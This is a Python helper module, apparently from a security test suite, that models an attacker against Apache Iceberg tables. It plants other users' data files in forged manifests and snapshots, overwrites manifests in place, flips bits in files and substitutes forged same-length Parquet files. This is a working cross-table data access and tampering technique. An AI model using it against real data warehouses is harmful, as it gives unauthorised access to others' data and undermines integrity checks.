"""The attacker: a user who can write the directory of one table, with standard tools only.

She needs no right on the table whose files she names: a path, a number of rows and a size are all that an
entry of a manifest says. Paths are no secret; they stand in listings, logs and plans.
"""

from __future__ import annotations

import secrets
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from uuid import uuid4

import pyarrow as pa
import pyarrow.parquet as parquet
from pyiceberg.io.pyarrow import PyArrowFileIO
from pyiceberg.manifest import (
    DataFile,
    DataFileContent,
    FileFormat,
    ManifestEntry,
    ManifestEntryStatus,
    ManifestFile,
    write_manifest,
    write_manifest_list,
)
from pyiceberg.table import Table
from pyiceberg.table.metadata import TableMetadata
from pyiceberg.table.snapshots import Operation, Snapshot, Summary
from pyiceberg.table.update import AddSnapshotUpdate, SetSnapshotRefUpdate, TableUpdate
from pyiceberg.typedef import Record


@dataclass(frozen=True, slots=True)
class ForeignFile:
    """A data file of another user's table, as an attacker knows it.

    Attributes:
        path: its location.
        rows: how many rows it has, or a guess.
        size: its size in bytes, or a guess.
    """

    path: str
    rows: int
    size: int


def planted(table: Table, foreign: Sequence[ForeignFile]) -> tuple[TableUpdate, ...]:
    """A new snapshot of her table that holds foreign files beside her own; it is not committed yet.

    Args:
        table: her table; a manifest and a manifest list are written into its directory.
        foreign: the files to name.
    """
    metadata, snapshot_id = table.metadata, secrets.randbelow(1 << 62) + 1
    path = f"{metadata.location}/metadata/{uuid4()}-m0.avro"
    manifests = [*_manifests(metadata), _write(metadata, path, foreign, snapshot_id)]
    snapshot = _snapshot(metadata, manifests, snapshot_id)
    head = {"action": "set-snapshot-ref", "ref-name": "main", "type": "branch", "snapshot-id": snapshot_id}
    return AddSnapshotUpdate(snapshot=snapshot), SetSnapshotRefUpdate.model_validate(head)


@contextmanager
def edited_in_place(table: Table, foreign: Sequence[ForeignFile]) -> Iterator[None]:
    """Foreign files in the newest manifest of her table, whose bytes are written over; undone at the end."""
    newest = _manifests(table.metadata)[0]
    with overwritten(local(newest.manifest_path)):
        _write(table.metadata, newest.manifest_path, foreign, newest.added_snapshot_id or 0)
        yield


@contextmanager
def overwritten(path: Path, content: bytes | None = None) -> Iterator[None]:
    """Other bytes in a file, for as long as the block lasts.

    Args:
        path: the file.
        content: its bytes meanwhile; by default the block writes them.
    """
    before = path.read_bytes()
    try:
        if content is not None:
            path.write_bytes(content)
        yield
    finally:
        path.write_bytes(before)


def flipped(content: bytes) -> bytes:
    """The same bytes but for one bit in their middle."""
    middle = len(content) // 2
    return content[:middle] + bytes([content[middle] ^ 1]) + content[middle + 1 :]


def in_place_of(original: bytes, other: bytes) -> bytes:
    """Another Parquet file, made as long as the original one; nobody reads what is put before the footer."""
    footer = int.from_bytes(other[-8:-4], "little") + 8
    return other[:-footer] + bytes(len(original) - len(other)) + other[-footer:]


def forged(plaintext: Path) -> bytes:
    """A plaintext Parquet file of her own making, out of one that she found: every other row of it."""
    rows = parquet.read_table(plaintext)
    buffer = pa.BufferOutputStream()
    parquet.write_table(rows.take(list(range(0, rows.num_rows, 2))), buffer)
    return bytes(buffer.getvalue().to_pybytes())


def local(location: str) -> Path:
    """The local file of a location that is below a warehouse of ours."""
    return Path(location.removeprefix("file://"))


def _manifests(metadata: TableMetadata) -> list[ManifestFile]:
    snapshot = metadata.current_snapshot()
    return [] if snapshot is None else snapshot.manifests(PyArrowFileIO())


def _write(
    metadata: TableMetadata, path: str, foreign: Sequence[ForeignFile], snapshot_id: int
) -> ManifestFile:
    output = PyArrowFileIO().new_output(path)
    with write_manifest(2, metadata.spec(), metadata.schema(), output, snapshot_id, "deflate") as writer:
        for each in foreign:
            writer.add_entry(_entry(each))
    return writer.to_manifest_file()


def _entry(file: ForeignFile) -> ManifestEntry:
    data_file = DataFile.from_args(
        content=DataFileContent.DATA,
        file_path=file.path,
        file_format=FileFormat.PARQUET,
        partition=Record(),
        record_count=file.rows,
        file_size_in_bytes=file.size,
    )
    return ManifestEntry.from_args(status=ManifestEntryStatus.ADDED, data_file=data_file)


def _snapshot(metadata: TableMetadata, manifests: Sequence[ManifestFile], snapshot_id: int) -> Snapshot:
    path = f"{metadata.location}/metadata/snap-{snapshot_id}-{uuid4()}.avro"
    number, parent = metadata.next_sequence_number(), metadata.current_snapshot_id
    output = PyArrowFileIO().new_output(path)
    with write_manifest_list(2, output, snapshot_id, parent, number, "deflate") as writer:
        writer.add_manifests(list(manifests))
    return Snapshot(
        snapshot_id=snapshot_id,
        parent_snapshot_id=parent,
        sequence_number=number,
        timestamp_ms=metadata.last_updated_ms + 1,
        manifest_list=path,
        summary=Summary(Operation.APPEND),
        schema_id=metadata.current_schema_id,
    )
